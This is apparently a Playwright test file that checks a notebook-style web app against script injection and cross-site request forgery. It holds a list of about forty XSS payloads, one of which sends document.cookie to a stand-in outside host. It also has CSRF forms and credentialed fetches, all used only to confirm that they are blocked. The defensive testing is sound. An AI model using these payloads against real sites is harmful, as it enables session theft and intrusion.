"""Outputs and names made to run script in the page, and other sites that try to act for a signed-in browser."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from support.server import Server
from support.tools import entry
from support.waiting import wait_until
from web.conftest import WIDE, sign_in

pytestmark = pytest.mark.web


class Elsewhere:
    """Another site on this machine. It notes what is asked of it."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.page = b""
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                site.asked.append(self.path)
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.end_headers()
                self.wfile.write(site.page)

            def log_message(self, *args: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        # Another name, so that it is another site for the browser, too.
        self.url = f"http://localhost:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    site = Elsewhere()
    yield site
    site.close()


SCRIPT = """
for (const each of [() => top, () => parent, () => window]) try { each().pwned = 1 } catch {}
try { top.document.title = 'pwned' } catch {}
try { new Image().src = 'ELSEWHERE/image?' + document.cookie } catch {}
try { fetch('ELSEWHERE/fetch') } catch {}
try { fetch('SERVER/v1/sessions', {method: 'POST', credentials: 'include', body: '{"session_id": "pwned"}'}) } catch {}
try { new WebSocket('SERVER'.replace('http', 'ws') + '/v1/overview') } catch {}
"""

IN_TAG = "top.pwned=1;parent.pwned=1;window.pwned=1;fetch(`ELSEWHERE/tag`)"


def html(source: str) -> str:
    return f"from IPython.display import HTML\nHTML({source!r})"


def markdown(source: str) -> str:
    return f"from IPython.display import Markdown\nMarkdown({source!r})"


def svg(source: str) -> str:
    return f"from IPython.display import SVG, display\ndisplay({{'image/svg+xml': {source!r}}}, raw=True)"


SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"'

ATTACKS = {
    "html: script": html(f"<script>{SCRIPT}</script>"),
    "html: image that fails": html(f'<img src=x onerror="{IN_TAG}">'),
    "html: svg that loads": html(f'<svg onload="{IN_TAG}"></svg>'),
    "html: frame with a document": html(f'<iframe srcdoc="<script>{IN_TAG}</script>"></iframe>'),
    "html: frame with javascript": html(f'<iframe src="javascript:{IN_TAG}"></iframe>'),
    "html: frame of elsewhere": html('<iframe src="ELSEWHERE/frame"></iframe>'),
    "html: frame of the server": html('<iframe src="SERVER/"></iframe>'),
    "html: script of elsewhere": html('<script src="ELSEWHERE/script.js"></script>'),
    "html: style of elsewhere": html(
        '<link rel=stylesheet href="ELSEWHERE/style.css"><style>@import "ELSEWHERE/i"</style>'
    ),
    "html: refresh": html('<meta http-equiv=refresh content="0;url=ELSEWHERE/refresh">'),
    "html: form that sends itself": html(
        "<form method=post action='SERVER/v1/signout' target=_top><input name=a></form>"
        "<script>document.forms[0].submit()</script>"
    ),
    "html: top goes elsewhere": html("<script>try { top.location = 'ELSEWHERE/top' } catch {}</script>"),
    "html: frame goes elsewhere": html("<script>location = 'ELSEWHERE/location'</script>"),
    "html: window": html("<script>open('ELSEWHERE/window')</script>"),
    "html: object and embed": html('<object data="ELSEWHERE/object"></object><embed src="ELSEWHERE/embed">'),
    "html: base": html('<base href="ELSEWHERE/"><img src="base.png"><a href="x">x</a>'),
    "html: messages": html(
        "<script>for (const each of [{height: 1e9}, {ready: true}, {height: 'x'}, {html: '<b>'}, null])"
        " parent.postMessage(each, '*')</script>"
    ),
    "html: covers the page": html('<div style="position:fixed;inset:0;z-index:9999;background:red">Sign in</div>'),
    "html: closes its frame": html(f"</iframe></div><script>{IN_TAG}</script>"),
    "svg: script": svg(f"{SVG_OPEN}><script>{IN_TAG}</script></svg>"),
    "svg: loads": svg(f'{SVG_OPEN} onload="{IN_TAG}"></svg>'),
    "svg: foreign object": svg(f"{SVG_OPEN}><foreignObject><body onload='{IN_TAG}'/></foreignObject></svg>"),
    "svg: picture of elsewhere": svg(f'{SVG_OPEN}><image xlink:href="ELSEWHERE/svg"/></svg>'),
    "svg: link": svg(f'{SVG_OPEN}><a xlink:href="javascript:{IN_TAG}"><rect width="9" height="9"/></a></svg>'),
    "svg: ends its address": svg(f'"><script>{IN_TAG}</script>'),
    "markdown: script": markdown(f"<script>{IN_TAG}</script>"),
    "markdown: image that fails": markdown(f'<img src=x onerror="{IN_TAG}">'),
    "markdown: javascript link": markdown(f"[click](javascript:{IN_TAG})"),
    "markdown: hidden javascript link": markdown(
        "[click](&#x6a;avascript:top.pwned=1) [b](JaVa&Tab;Script:top.pwned=1)"
    ),
    "markdown: data link": markdown(f"[click](data:text/html,<script>{IN_TAG}</script>)"),
    "markdown: picture of elsewhere": markdown("![x](ELSEWHERE/markdown.png)"),
    "markdown: title breaks out": markdown('[a](http://x "\\" onmouseover=top.pwned=1 ")'),
    "text: tags": f"print('<img src=x onerror=\"{IN_TAG}\"><script>{IN_TAG}</script>')",
    "text: link of a terminal": "print('\\x1b]8;;javascript:top.pwned=1\\x07click\\x1b]8;;\\x07')",
    "text: title of a terminal": "print('\\x1b]0;<script>top.pwned=1</script>\\x07')",
    "text: style breaks out": "print('\\x1b[38;2;1;2;3);background:url(ELSEWHERE/ansi)m text \\x1b[38;5;999m')",
    "text: direction is turned": "print('a\\u202eb\\u2066c')",
    "repr": f"class R:\n    def __repr__(self): return '<img src=x onerror=\"{IN_TAG}\">'\nr = R()\nr",
    "variable": f"evil = '<img src=x onerror=\"{IN_TAG}\">'",
    "exception": f"raise ValueError('<img src=x onerror=\"{IN_TAG}\">')",
    "exception: name": f"raise type('<img src=x onerror=\"{IN_TAG}\">', (Exception,), {{}})('x')",
    "code": f'# <img src=x onerror="{IN_TAG}"></pre><script>{IN_TAG}</script>',
    "file name": f"open('<img src=x onerror=\"top.pwned=1\">.md', 'w').write('<script>{IN_TAG}</script>')",
    "json": "from IPython.display import display\ndisplay({'application/json': '{\"a\": \"<script>top.pwned=1</script>\"}'}, raw=True)",
    "javascript": f"from IPython.display import Javascript\nJavascript({IN_TAG!r})",
    "unknown kind": "from IPython.display import display\ndisplay({'text/x-<script>top.pwned=1</script>': 'x'}, raw=True)",
    "latex": "from IPython.display import Latex\nLatex('$\\\\href{javascript:top.pwned=1}{x}$ <script>top.pwned=1</script>')",
}


@pytest.fixture
def victim(browser: Browser, server: Server) -> Iterator[BrowserContext]:
    """A browser that is signed in. Blocked attacks are told in its console, so that is not looked at."""
    context = browser.new_context(viewport=WIDE)  # type: ignore[arg-type]
    sign_in(context, server)
    yield context
    context.close()


def show_everything(page: Page) -> None:
    """Bring every cell into view, and wait until its output is there."""
    for cell in page.get_by_role("article").all():
        # A cell is asked for when a frame shows it, and scrolling on may come before that frame.
        cell.evaluate("each => each.scrollIntoView()")
        expect(cell.locator(".placeholder")).to_have_count(0)
    page.wait_for_load_state("networkidle")


def assert_unharmed(page: Page, server: Server, elsewhere: Elsewhere) -> None:
    assert page.evaluate("window.pwned") is None
    assert page.title() != "pwned"
    assert page.url.startswith(server.url + "/sessions/")
    assert elsewhere.asked == []
    names = [each["session_id"] for each in server.client.get("/v1/sessions").json()["sessions"]]
    assert "pwned" not in names


@pytest.mark.req("web.safe")
def test_no_output_runs_script_in_the_page_or_asks_another_host(
    victim: BrowserContext, server: Server, name: str, elsewhere: Elsewhere
) -> None:
    assert len(ATTACKS) >= 40
    opened: list[Page] = []
    victim.on("page", lambda page: opened.append(page))
    page = victim.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(f"{server.url}/sessions/{name}")
    for number, code in enumerate(ATTACKS.values(), 1):
        filled = code.replace("ELSEWHERE", elsewhere.url).replace("SERVER", server.url)
        server.execute(filled, name)
        page.locator(f"#cell-{number}").wait_for()
    show_everything(page)
    assert_unharmed(page, server, elsewhere)
    page.reload()
    page.get_by_role("article").first.wait_for()
    show_everything(page)
    for link in page.locator(".cells a").all():
        assert not (link.get_attribute("href") or "").lower().startswith(("javascript:", "data:"))
    for view in ("variables", "files", "branches", "resources"):
        page.goto(f"{server.url}/sessions/{name}/{view}")
        page.wait_for_load_state("networkidle")
    page.goto(f"{server.url}/sessions/{name}/files")
    page.get_by_role("button", name="onerror").first.click()
    page.wait_for_load_state("networkidle")
    assert_unharmed(page, server, elsewhere)
    page.goto(f"{server.url}/sessions/{name}/variables")
    page.get_by_role("button", name="evil", exact=True).click()
    expect(page.get_by_role("region", name="Value of evil")).to_contain_text("onerror")
    assert_unharmed(page, server, elsewhere)
    assert (dialogs, opened) == ([], [page])
    # The browser is still signed in, and nothing ran that the test did not run.
    assert page.evaluate("fetch('/v1/me').then((answer) => answer.status)") == 200
    assert server.client.get(f"/v1/sessions/{name}").json()["execution_count"] == len(ATTACKS)


@pytest.mark.req("web.safe")
def test_no_note_table_call_or_terminal_runs_script(
    victim: BrowserContext, server: Server, name: str, elsewhere: Elsewhere
) -> None:
    bad = f'<img src=x onerror="{IN_TAG}">'.replace("ELSEWHERE", elsewhere.url)
    note = {"text": f"{bad}\n\n[x](javascript:top.pwned=1) ![y]({elsewhere.url}/note.png)"}
    server.client.post(f"/v1/sessions/{name}/notes", json=note).raise_for_status()
    tools = entry(rules={"search-issues": "ask"}, policy="allow")
    server.client.put(f"/v1/sessions/{name}/tools/box", json=tools).raise_for_status()
    server.execute(
        f"import tools, pandas as pd\ntools.box.add(1, 2)\ntable = pd.DataFrame({{{bad!r}: [{bad!r}], 'n': [1]}})", name
    )
    page = victim.new_page()
    page.goto(f"{server.url}/sessions/{name}/variables")
    page.get_by_role("button", name="table", exact=True).click()
    expect(page.get_by_role("region", name="Rows")).to_contain_text("onerror")
    call = {"code": f"tools.box.search_issues(from_={bad!r})", "wait": 0}
    server.client.post(f"/v1/sessions/{name}/execute", json=call).raise_for_status()
    expect(page.get_by_role("group", name="Approval of search-issues")).to_contain_text("onerror")
    page.get_by_role("button", name="Allow").click()
    expect(page.get_by_title("A tool that the cell called").last).to_contain_text("onerror")
    show_everything(page)
    assert_unharmed(page, server, elsewhere)
    page.get_by_role("link", name="Shell").click()
    page.get_by_role("button", name="Open a terminal").click()
    page.locator(".xterm-rows").get_by_text("workspace").wait_for()
    page.keyboard.type(
        r"printf '\e]0;pwned\a\e]8;;javascript:top.pwned=1\a<img src=x onerror=top.pwned=1>\e]8;;\a'; echo"
    )
    page.keyboard.press("Enter")
    page.locator(".xterm-rows").get_by_text("onerror").last.click(force=True)
    assert_unharmed(page, server, elsewhere)


@pytest.mark.req("web.safe")
def test_a_frame_of_an_output_has_no_cookie_and_no_access(victim: BrowserContext, server: Server, name: str) -> None:
    page = victim.new_page()
    page.goto(f"{server.url}/sessions/{name}")
    server.execute(html("<p>inside</p>"), name)
    page.frame_locator("iframe").get_by_text("inside").wait_for()
    inside = page.frames[-1]
    attempt = "(action) => { try { return String(eval(action)) } catch (error) { return error.name } }"
    assert inside.evaluate(attempt, "document.cookie") == "SecurityError"
    assert inside.evaluate(attempt, "parent.document.title") == "SecurityError"
    assert inside.evaluate(attempt, "localStorage.length") == "SecurityError"
    assert inside.evaluate(attempt, "self.origin") == "null"
    asked = "(url) => fetch(url, {credentials: 'include'}).then(() => 'answered', () => 'blocked')"
    assert inside.evaluate(asked, f"{server.url}/v1/sessions") == "blocked"
    # Opened by itself it has an origin of its own as well.
    alone = victim.new_page()
    alone.goto(page.locator("iframe").evaluate("frame => frame.src"))
    assert alone.evaluate("self.origin") == "null"


@pytest.mark.req("web.safe", "web.signin")
def test_another_site_can_neither_act_nor_frame_the_page(
    victim: BrowserContext, server: Server, elsewhere: Elsewhere, name: str
) -> None:
    elsewhere.page = f"""<iframe id=framed src="{server.url}/sessions/{name}"></iframe>
        <iframe name=sink></iframe><img src="{server.url}/v1/sessions">
        <form id=form method=post action="{server.url}/v1/sessions/{name}/clear" target=sink enctype=text/plain></form>
        <script>
          form.submit();
          fetch("{server.url}/v1/sessions", {{method: "POST", mode: "no-cors", credentials: "include",
            body: '{{"session_id": "pwned"}}'}}).catch(() => {{}}).finally(() => document.title = "tried");
        </script>""".encode()
    server.execute("kept = 1", name)
    page = victim.new_page()
    answers: list[int] = []
    page.on("response", lambda answer: answer.url.startswith(server.url) and answers.append(answer.status))
    page.goto(elsewhere.url)
    page.wait_for_function("document.title == 'tried'")
    page.wait_for_load_state("networkidle")
    assert wait_until(lambda: len(answers) >= 3, 10)
    assert set(answers) <= {401, 403}
    assert page.frame_locator("#framed").locator("main").count() == 0
    assert server.execute("kept", name)["result"]["text/plain"] == "1"
    names = [each["session_id"] for each in server.client.get("/v1/sessions").json()["sessions"]]
    assert "pwned" not in names
    elsewhere.asked.clear()


def test_the_name_of_a_session_is_never_markup(server: Server) -> None:
    for name in ("<img src=x onerror=alert(1)>", "a'b", 'a"b', "a/b", "a b", "‮abc"):
        assert server.client.post("/v1/sessions", json={"session_id": name}).status_code == 422
